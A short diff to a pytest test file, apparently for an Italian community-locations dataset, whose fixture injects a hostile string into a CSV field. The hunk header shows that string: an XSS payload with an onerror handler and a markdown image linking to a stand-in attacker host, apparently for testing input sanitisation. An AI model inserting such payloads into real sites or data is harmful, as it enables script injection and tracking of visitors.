@@ -24,7 +24,7 @@ OSTILE = "Mompiano <img src=x onerror=alert(1)> ![t](http://attacker.invalid/tra
 
 @pytest.fixture
 def snap(data_copy):
-    replace_in(data_copy / "punti.csv", "mompiano,Punto di comunità Mompiano,", f'mompiano,"{OSTILE}",')
+    replace_in(data_copy / "punti.csv", "mompiano,Punto Quercia (esempio),", f'mompiano,"{OSTILE}",')
     return carica(data_copy)
 
 
